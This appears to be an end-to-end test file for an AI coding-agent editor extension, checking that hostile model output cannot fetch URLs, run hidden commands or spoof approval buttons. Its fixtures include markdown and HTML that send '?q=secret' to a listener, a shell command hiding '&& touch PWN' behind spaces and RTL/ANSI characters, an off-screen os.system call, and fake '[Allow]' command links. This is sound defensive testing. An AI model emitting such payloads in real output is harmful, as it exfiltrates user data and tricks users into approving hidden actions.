/** What a model, a file or a folder may not do to the window, and what a restricted window may not do. */

import { readFileSync } from "node:fs";
import { createServer } from "node:http";
import type { Server } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { afterAll, afterEach, beforeAll, expect, test } from "vitest";
import { Editor, press, shown } from "./kit/editor.ts";
import type { Window } from "./kit/editor.ts";
import { Home } from "./kit/home.ts";
import { until } from "./kit/processes.ts";
import { call, scene } from "./kit/script.ts";
import type { Step } from "./kit/script.ts";
import { ONE, SHOP, SHOP_FILES, TIDY } from "./kit/shop.ts";

const MEGABYTE = 1_000_000;

/** Everything that has made a panel fetch something, and a line that is too long for any screen. */
function hostile(url: string): string {
  return [
    `![a](${url}/image?q=secret) ![b][ref] <img src="${url}/html-img?q=secret"> <script>fetch("${url}/script")</script>`,
    `[ref]: ${url}/reference?q=secret`,
    `<svg><image href="${url}/svg"/></svg> <style>body{background:url(${url}/css)}</style> <iframe src="${url}/frame"></iframe> <link rel="prefetch" href="${url}/prefetch">`,
    `[click me](${url}/clicked?q=secret) [run](command:workbench.action.quit) [js](javascript:alert(1)) <a href="${url}/a" ping="${url}/ping">x</a>`,
    "| a | b |\n|---|---|\n| <video src=x> | `code` |",
    "evil \u202Etxt.exe\u202C and zero\u200Bwidth",
    `${url}/bare-link-is-text`,
    "the end of the hostile text",
  ].join("\n\n");
}

const COMMAND = ["python3", "-c", `print(1)${" ".repeat(200)}&& touch PWN \u202Egnp.exe\u202C \u001B[8mhidden\u001B[0m`, "line one\nline two"];
const schema = (name: string): string => `{\n  "$schema": "${url}/${name}?q=secret"\n}\n`;
const FAR = `x = 1${" ".repeat(170)}; import os; os.system("touch PWN")\n`;
const ODD = "a b#1%25é.py";
const ODD_TEST = 'import pytest\n\n\n@pytest.mark.parametrize("x", [1], ids=["$(flame)"])\ndef test_one(x):\n    pass\n';
const ICON_TITLE = "$(flame) evil\u202E [Allow](command:gloveport.acceptFile)";
const LINKS = ["python3", "-c", "print(1)", "[Allow](command:gloveport.acceptFile)"];

let listener: Server;
let heard: string[] = [];
let url: string;
let home: Home;
let editor: Editor;
let window: Window;

beforeAll(async () => {
  listener = createServer((request, reply) => {
    heard.push(request.url ?? "");
    reply.end();
  });
  await new Promise<void>((resolve) => listener.listen(0, "127.0.0.1", resolve));
  url = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`;
  const steps: readonly Step[] = [
    ...scene("show me hostile", { text: hostile(url), chunk_chars: 40, delay_ms: 1 }),
    ...scene(
      "speak through the window",
      { text: "I run the tests.\n", calls: [call("run_tests", {})] },
      { text: "I speak.\n", calls: [call("run_command", { argv: LINKS })], wait_for_file: "go-chrome", wait_after_chunks: 0 },
      { text: "As you like." },
    ),
    ...scene("one long line", { text: "x".repeat(MEGABYTE - 1), chunk_chars: 20_000 }),
    ...scene("hide a command", { text: "I run it.\n", calls: [call("run_command", { argv: COMMAND })] }, { text: "As you like." }),
    ...scene("an odd name", { text: "I edit it.\n", calls: [call("edit_file", { path: ODD, old: "one\n", new: "two\n" })] }, { text: "Proposed." }),
    ...scene(
      "an address in a schema",
      { text: "I write them.\n", calls: ["data.json", "more.json"].map((path) => call("write_file", { path, content: schema("leak") })) },
      { text: "Written." },
    ),
    ...scene("a far end", { text: "I edit it.\n", calls: [call("edit_file", { path: "a.py", old: "x = 0\n", new: FAR })] }, { text: "Edited." }),
    ...TIDY,
  ];
  home = new Home({ name: "e2e", steps });
  editor = await Editor.start(home, { settings: { "json.schemaDownload.trustedDomains": { [`${url}/`]: true } } });
});

afterAll(async () => {
  await editor?.stop();
  await home?.end();
  listener?.close();
});

afterEach(async ({ task }) => {
  if (task.result?.state === "fail") {
    await window?.shot("failure-safety");
    console.error(editor.extensionLog().slice(-3000));
  }
  await window?.close();
});

async function begin(name: string, files: Readonly<Record<string, string>> = { "a.txt": "one\n" }): Promise<string> {
  const root = home.workspace(name, files);
  window = await editor.open(root);
  await window.openPanel();
  return root;
}

test("g08: hostile markdown is text: nothing is fetched, links show their whole target and ask", async () => {
  await begin("hostile");
  heard = [];
  await window.say("show me hostile", "Trusted");
  await window.panel.getByText("the end of the hostile text").waitFor();
  expect(await window.panel.locator(".conv :is(img, script, iframe, image, style, video, link, a)").count()).toBe(0);
  await window.panel.locator(".link", { hasText: "click me" }).hover();
  await window.shot("30-hostile");
  await window.panel.locator(".link", { hasText: "click me" }).click();
  const dialog = window.page.locator(".monaco-dialog-box");
  await dialog.getByText(`${url}/clicked?q=secret`).waitFor();
  await window.shot("31-link-asks");
  await dialog.getByRole("button", { name: "Cancel" }).click();
  for (const kind of ["run", "js"]) {
    await window.panel.locator(".link", { hasText: kind }).first().click();
    await window.panel.locator(".told", { hasText: "Links of this kind are not opened" }).waitFor();
    await window.panel.locator(".told button").click();
  }
  const tried = await window.panel.locator("body").evaluate(async (body, address) => {
    // The second defence alone: a script of the panel's own page that tries to load something is held by the policy.
    const { ownerDocument } = body;
    const image = ownerDocument.createElement("img");
    const ended = new Promise<string>((resolve) => ["load", "error"].forEach((end) => image.addEventListener(end, () => resolve(end))));
    image.src = `${address}/policy`;
    body.append(image);
    const end = await ended;
    image.remove();
    if (end === "load") {
      return "loaded";
    }
    return fetch(`${address}/fetch`).then(
      () => "fetched",
      () => "held",
    );
  }, url);
  expect(tried).toBe("held");
  expect(heard).toEqual([]);
  const beside = await window.page.context().newPage(); // the same browser reaches the listener, where nothing holds it
  await beside.goto(`${url}/control`);
  await beside.close();
  await until("the control to be heard", () => heard.includes("/control"));
});

test("g08: words of data are plain text in notifications, lists, trees and the Test Explorer", async () => {
  await begin("chrome", { "test_odd.py": ODD_TEST });
  await window.say("speak through the window", "Trusted");
  await window.answerBy(/Allow once/); // the tests
  await window.panel.locator(".tests").waitFor();
  await window.show("Explorer");
  home.release("go-chrome");
  const toast = await window.toast("Gloveport waits");
  expect(await toast.locator(".notification-list-item-message").innerText()).toContain("[Allow] (command:gloveport.acceptFile)");
  expect(await toast.locator(".notification-list-item-message a").count()).toBe(0);
  await window.shot("36-notification");
  await toast.getByRole("button", { name: "Deny" }).click();
  await toast.waitFor({ state: "detached" });
  const { connection } = await home.connect();
  const [session] = (await connection.call("session/list", {})).sessions.filter(({ root }) => root.endsWith("/chrome"));
  await connection.call("session/rename", { clientRequestId: "rename", sessionId: session!.sessionId, title: ICON_TITLE });
  await connection.close();
  await window.show("Gloveport Rights");
  const row = window.page.getByRole("treeitem", { name: /^\$\(flame\) evil/ });
  await row.waitFor();
  expect(await row.innerText()).toContain("$(flame) evil⟨U+202E⟩");
  await window.command("Gloveport: Find a Session");
  const found = window.page.locator(".quick-input-list .monaco-list-row", { hasText: "evil" }).first();
  await found.waitFor();
  expect(await found.innerText()).toContain("$(flame) evil⟨U+202E⟩");
  await window.shot("37-lists");
  await window.page.keyboard.press("Escape");
  await window.openTests(/test_odd\.py/, /test_one/);
  const one = window.page.getByRole("treeitem", { name: /test_one/ });
  await one.waitFor();
  expect(await one.innerText()).toContain("[$(flame)]");
  expect(await window.page.locator(".codicon-flame").count()).toBe(0);
  await window.shot("38-tests");
});

test("g08: a proposal names a schema, and nobody fetches it: not beside the file, not among all files", async () => {
  await begin("schema", { "own.json": schema("own") });
  heard = [];
  await window.say("an address in a schema", "Trusted");
  await window.panel.getByRole("button", { name: "Review data.json" }).click();
  await window.page.locator(".editor.modified .view-line", { hasText: "/leak?q=secret" }).waitFor();
  await window.panel.getByRole("button", { name: "Review", exact: true }).click();
  await window.page.locator(".multiDiffEntry").getByText("/leak?q=secret").first().waitFor();
  await window.openFile("own.json"); // the user's own file: here VS Code does look its schema up
  await until("the schema of the user's own file to be heard", () => heard.includes("/own?q=secret"));
  expect(heard.filter((one) => one.startsWith("/leak"))).toEqual([]);
});

test("what a hunk does is told in words where its line is longer than what stands beside the user's own", async () => {
  await begin("far", { "a.py": "x = 0\ny = 1\n" });
  await window.openFile("a.py");
  await window.say("a far end", "Trusted");
  await window.page.locator(".codelens-decoration a", { hasText: "Accept" }).first().waitFor();
  const beside = await window.page
    .locator(".view-line")
    .first()
    .evaluate((line) => [...line.querySelectorAll("span")].map((one) => getComputedStyle(one, "::after").content).filter((one) => one !== "none"));
  expect(beside.join("")).toContain("Compare shows all of it");
});

test("a line of a megabyte leaves the panel usable", async () => {
  await begin("long");
  await window.say("one long line", "Trusted");
  await window.panel
    .getByText(/more characters/)
    .first()
    .waitFor();
  await window.composer.fill("still here");
  expect(await window.composer.inputValue()).toBe("still here");
  await window.shot("32-long-line");
});

test("b10: the whole command is on the card, hidden characters are shown and counted, and deny runs nothing", async () => {
  const root = await begin("hidden");
  await window.say("hide a command", "Trusted");
  const card = window.panel.locator(".ap");
  await card.waitFor();
  const words = await card.locator(".cmd").innerText();
  expect(words).toContain("&& touch PWN");
  expect(words).toContain("line two");
  expect(words).not.toMatch(/[\u202E\u001B]/);
  expect(await card.locator(".cmd .esc").allInnerTexts()).toEqual(expect.arrayContaining(["⟨U+202E⟩", "⟨ESC⟩", "⟨LF⟩", "⟨200 spaces⟩"]));
  await card.getByText(/\d+ hidden characters, shown escaped/).waitFor();
  await window.shot("33-hidden-command");
  await card.focus();
  await window.page.keyboard.press("Escape");
  expect(await card.isVisible()).toBe(true); // Esc never decides
  await window.answer(async () => {
    await card.focus();
    await window.page.keyboard.press("Control+Backspace");
  });
  await window.panel.locator(".done", { hasText: /Denied/ }).waitFor();
  expect(() => readFileSync(join(root, "PWN"))).toThrow();
});

/** In the page: what is done in the very moment in which a card appears; and whether a card that rested took what came with a move. */
function hasty(body: Element): void {
  const press = (card: HTMLElement): void => {
    card.querySelector<HTMLElement>(".act .btn")?.click();
    card.dispatchEvent(new KeyboardEvent("keydown", { key: "Enter", ctrlKey: true, bubbles: true }));
  };
  new MutationObserver(() => {
    const card = body.querySelector<HTMLElement>(".ap:not([data-tried])");
    if (card !== null) {
      card.dataset["tried"] = "yes";
      press(card);
    }
  }).observe(body, { subtree: true, childList: true });
}

test("b10: what is pressed while a card appears or moves decides nothing", async () => {
  await begin("hasty");
  await window.composer.waitFor();
  await window.panel.locator("body").evaluate(hasty);
  await window.say("hide a command", "Trusted");
  const card = window.panel.locator(".ap[data-tried]");
  await card.waitFor();
  expect(await card.getAttribute("class")).not.toContain("sent");
  const moved = await card.evaluate(async (element) => {
    await new Promise((resolve) => setTimeout(resolve, 1_500)); // by now it hears, where nothing moved
    (element as HTMLElement).style.marginLeft = "12px";
    element.querySelector<HTMLElement>(".act .btn")?.click();
    return element.classList.contains("sent");
  });
  expect(moved).toBe(false);
  await window.answerBy(/Deny/);
  await window.panel.locator(".done", { hasText: "Denied" }).waitFor();
});

test("h07: a file of an odd name is edited under its own name", async () => {
  const root = await begin("odd", { [ODD]: "one\nmore\n" });
  await window.say("an odd name", "Trusted");
  await window.panel.getByText("1 file", { exact: true }).waitFor();
  await window.panel.getByRole("button", { name: `Review ${ODD}` }).click();
  await window.page.locator(".codelens-decoration a", { hasText: "Accept" }).first().click();
  await until("the edit on disk", () => readFileSync(join(root, ODD), "utf8") === "two\nmore\n");
});

test("a07: unsaved words survive an accept of another line", async () => {
  const root = await begin("dirty", SHOP_FILES);
  await window.openFile("shop.py");
  await window.page
    .locator(".view-lines")
    .first()
    .click({ position: { x: 300, y: 8 } });
  await window.page.keyboard.press("Control+Home");
  await window.page.keyboard.type("# mine, not saved\n");
  await window.say("tidy the shop", "Trusted");
  await window.panel.locator(".ap").waitFor();
  await window.panel.getByText("This session").click();
  await window.answerBy(/Allow for this session/);
  const lens = window.page.locator(".codelens-decoration a");
  await lens.filter({ hasText: "Gloveport 1 of 2" }).waitFor();
  await window.shot("34-dirty");
  await window.reload(); // the editor keeps the unsaved words, the daemon the hunks
  await window.openPanel();
  await lens.filter({ hasText: "Gloveport 1 of 2" }).waitFor();
  await lens.filter({ hasText: "Gloveport 2 of 2" }).waitFor();
  await lens.filter({ hasText: "Accept" }).first().click();
  await lens.filter({ hasText: "Gloveport 1 of 1" }).waitFor();
  expect(readFileSync(join(root, "shop.py"), "utf8")).toBe(SHOP); // both stand in the buffer: the file is the user's to save
  await window.page
    .locator(".view-lines")
    .first()
    .click({ position: { x: 300, y: 8 } });
  await window.page.keyboard.press("Control+s");
  const wanted = `# mine, not saved\n${SHOP.replace(ONE.old, ONE.new)}`;
  await until("both lines on disk", () => readFileSync(join(root, "shop.py"), "utf8") === wanted);
});

test("a restricted window reads and does nothing", async () => {
  const root = home.workspace("strict", { "a.txt": "one\n" });
  const { connection } = await home.connect();
  await connection.call("workspace/trust", { clientRequestId: "r1", root, trustLevel: "trusted" });
  const { sessionId } = await connection.call("session/start", { clientRequestId: "r2", root, title: "Begun elsewhere" });
  await connection.call("turn/start", { clientRequestId: "r3", sessionId, text: "hide a command" });
  window = await editor.open(root, { trust: "no" });
  await window.openPanel();
  await window.panel.getByText("This workspace is restricted.").waitFor();
  expect(await window.composer.isDisabled()).toBe(true);
  await window.panel.getByRole("button", { name: /New session/ }).click();
  await window.panel.locator(".srow", { hasText: "Begun elsewhere" }).click();
  const card = window.panel.locator(".ap");
  await card.waitFor();
  await window.shot("35-restricted");
  await until("the refusal", async () => {
    await press(card.getByRole("button", { name: /Allow once/ })); // a card is deaf in its first moments
    return shown(window.panel.locator(".told", { hasText: "restricted" }));
  });
  expect((await connection.call("approval/list", { sessionId })).approvals).toHaveLength(1);
  await connection.close();
});
